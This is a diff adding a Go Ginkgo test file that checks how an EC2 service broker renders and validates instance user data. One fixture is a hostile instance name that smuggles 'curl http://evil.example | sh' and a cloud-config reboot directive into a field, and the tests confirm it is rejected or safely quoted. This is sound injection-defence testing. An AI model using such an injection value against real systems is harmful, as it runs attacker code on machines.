@@ -0,0 +1,94 @@
+package broker
+
+import (
+	"strings"
+
+	. "github.com/onsi/ginkgo"
+	. "github.com/onsi/gomega"
+
+	"github.com/GSA/ec2-broker/config"
+)
+
+var _ = Describe("User data", func() {
+	var (
+		plan             *config.PlanConfig
+		provisionContext ProvisionContext
+		parameters       ProvisionParameters
+	)
+
+	BeforeEach(func() {
+		plan = &config.PlanConfig{ID: "plan-id"}
+		provisionContext = ProvisionContext{PlanID: "plan-id", OrganizationGUID: "org-guid", SpaceGUID: "space-guid"}
+		parameters = ProvisionParameters{AMIID: "ami-1", SubnetID: "sn-1"}
+	})
+
+	It("launches without user data by default", func() {
+		Expect(renderUserData(plan, "instance-1", provisionContext, parameters)).To(BeEmpty())
+	})
+
+	It("renders the plan's template with the request's context and parameters", func() {
+		plan.UserDataTemplate = "#!/bin/sh\necho {{.InstanceID}} {{.OrganizationGUID}} {{.SpaceGUID}} {{.UserSupplied.Parameters.SubnetID}}\n"
+		Expect(renderUserData(plan, "instance-1", provisionContext, parameters)).To(Equal("#!/bin/sh\necho instance-1 org-guid space-guid sn-1\n"))
+	})
+
+	Describe("a hostile instance name", func() {
+		BeforeEach(func() {
+			provisionContext.InstanceName = "web'; curl http://evil.example | sh; echo '\nruncmd: [reboot]"
+		})
+
+		It("is not given to templates alongside the broker's IDs", func() {
+			plan.UserDataTemplate = "#!/bin/sh\nhostname {{.InstanceName}}\n"
+			_, err := renderUserData(plan, "instance-1", provisionContext, parameters)
+			Expect(err).To(HaveOccurred())
+		})
+
+		It("stays a single word when shell quoted", func() {
+			plan.UserDataTemplate = "#!/bin/sh\nhostname {{shellquote .UserSupplied.InstanceName}}\n"
+			Expect(renderUserData(plan, "instance-1", provisionContext, parameters)).To(Equal(
+				"#!/bin/sh\nhostname 'web'\\''; curl http://evil.example | sh; echo '\\''\nruncmd: [reboot]'\n"))
+		})
+
+		It("stays a single scalar when YAML quoted", func() {
+			plan.UserDataTemplate = "#cloud-config\nhostname: {{yamlquote .UserSupplied.InstanceName}}\n"
+			Expect(renderUserData(plan, "instance-1", provisionContext, parameters)).To(Equal(
+				"#cloud-config\nhostname: \"web'; curl http://evil.example | sh; echo '\\nruncmd: [reboot]\"\n"))
+		})
+	})
+
+	It("fails on templates that don't render", func() {
+		plan.UserDataTemplate = "{{.NoSuchField}}"
+		_, err := renderUserData(plan, "instance-1", provisionContext, parameters)
+		Expect(err).To(HaveOccurred())
+	})
+
+	It("passes user data through when the plan has no template", func() {
+		plan.AllowUserData = true
+		parameters.UserData = "#cloud-config\npackages: [git]\n"
+		Expect(renderUserData(plan, "instance-1", provisionContext, parameters)).To(Equal(parameters.UserData))
+	})
+
+	It("combines the plan's template and the user's data in a multipart document", func() {
+		plan.AllowUserData = true
+		plan.UserDataTemplate = "#!/bin/sh\necho plan\n"
+		parameters.UserData = "#cloud-config\npackages: [git]\n"
+		userData, err := renderUserData(plan, "instance-1", provisionContext, parameters)
+		Expect(err).ToNot(HaveOccurred())
+		Expect(userData).To(HavePrefix("Content-Type: multipart/mixed"))
+		Expect(userData).To(ContainSubstring("Content-Type: text/x-shellscript"))
+		Expect(userData).To(ContainSubstring("Content-Type: text/cloud-config"))
+		Expect(strings.Index(userData, "echo plan")).To(BeNumerically("<", strings.Index(userData, "packages: [git]")))
+	})
+
+	It("refuses user data when the plan does not allow it", func() {
+		Expect(validateUserData(plan, "#cloud-config\n")).ToNot(Succeed())
+	})
+
+	It("refuses user data over the plan's size limit", func() {
+		plan.AllowUserData = true
+		plan.MaxUserDataBytes = 10
+		Expect(validateUserData(plan, "#cloud-config\n")).ToNot(Succeed())
+		plan.MaxUserDataBytes = 0
+		Expect(validateUserData(plan, "#cloud-config\n")).To(Succeed())
+		Expect(validateUserData(plan, strings.Repeat("x", maxUserDataBytes+1))).ToNot(Succeed())
+	})
+})